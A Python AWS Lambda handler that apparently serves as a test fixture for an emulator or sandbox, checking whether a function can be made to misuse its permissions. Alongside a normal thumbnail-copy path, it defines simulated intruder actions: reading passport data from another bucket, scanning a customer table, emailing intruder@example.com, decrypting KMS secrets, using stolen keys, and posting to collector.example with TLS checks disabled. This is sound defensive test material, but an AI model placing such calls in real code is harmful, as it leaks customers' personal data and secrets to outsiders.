"""The function of every story here, with boto3: {"do": "work", "key", "size"} is its job, all else is what an intruder makes it do."""

import base64
import hashlib
import json
import os
import ssl
import time
import urllib.error
import urllib.request

import boto3
from botocore.exceptions import ClientError

s3 = boto3.client("s3")
dynamodb = boto3.client("dynamodb")
sqs = boto3.client("sqs")


def handler(event, context):
    # Lambda's runtime has it from Lambda; the emulator keeps it to itself.
    os.environ["_X_AMZN_TRACE_ID"] = event.pop("trace", "")
    try:
        return work(**event) if event["do"] == "work" else ATTACKS[event["do"]](event)
    except ClientError as error:
        print(f"{event['do']}: {error}")
        metadata = error.response["ResponseMetadata"]
        return {
            "error": error.response["Error"]["Code"],
            "code": None,
            "status": metadata["HTTPStatusCode"],
            "attempts": metadata.get("RetryAttempts", 0) + 1,
        }
    except OSError as error:
        print(f"{event['do']}: {error}")
        return {"error": type(error).__name__, "code": "refused", "status": None, "attempts": None}


def work(do, key, size, sleep=0, crash=False):
    read = s3.get_object(Bucket="photo-uploads", Key=key)["Body"].read()
    body = (read * (size // len(read) + 1))[:size]
    s3.put_object(Bucket="photo-thumbnails", Key=key, Body=body)
    dynamodb.put_item(TableName="Images", Item={"image": {"S": key}, "size": {"N": str(size)}})
    sqs.send_message(QueueUrl=os.environ["QUEUE"], MessageBody=json.dumps({"key": key}))
    time.sleep(sleep / 1000)
    if crash:
        os._exit(7)
    return {"read": hashlib.sha256(read).hexdigest(), "written": len(body)}


def other_bucket(event):
    return {"result": s3.get_object(Bucket="identity-documents", Key="passports/1043")["Body"].read().decode()}


def scan_table(event):
    return {"result": dynamodb.scan(TableName="Customers")["Count"]}


def send_mail(event):
    message = {"Subject": {"Data": "x"}, "Body": {"Text": {"Data": "body-marker-mail"}}}
    destination = {"ToAddresses": ["intruder@example.com"]}
    sent = boto3.client("ses").send_email(Source="shop@example.com", Destination=destination, Message=message)
    return {"result": sent["MessageId"]}


def foreign_key(event):
    ciphertext = base64.b64decode(os.environ["CIPHERTEXT"])
    return {"result": boto3.client("kms").decrypt(CiphertextBlob=ciphertext)["Plaintext"].decode()}


def stream(event):
    kinesis = boto3.client("kinesis")
    put = kinesis.put_record(StreamName="clicks", PartitionKey="1", Data=b"body-marker-stream")
    return {"result": put["SequenceNumber"]}


def own_credentials(event):
    own = boto3.session.Session(event["accessKeyId"], event["secretAccessKey"]).client("s3")
    put = own.put_object(Bucket="photo-thumbnails", Key="stolen", Body=b"body-marker-stolen")
    return {"result": put["ETag"]}


def large_upload(event):
    body = b"body-marker-large " * (4 * 1024 * 1024 // 18)
    return {"result": s3.put_object(Bucket="holiday-pictures", Key="x", Body=body)["ETag"]}


def unknown_host(event):
    context = ssl._create_unverified_context()
    try:
        with urllib.request.urlopen("https://collector.example/collect", context=context) as response:
            return {"result": response.status}
    except urllib.error.HTTPError as error:
        return {"result": error.code}


ATTACKS = {
    "other-bucket": other_bucket,
    "scan-table": scan_table,
    "send-mail": send_mail,
    "foreign-key": foreign_key,
    "stream": stream,
    "own-credentials": own_credentials,
    "large-upload": large_upload,
    "unknown-host": unknown_host,
}
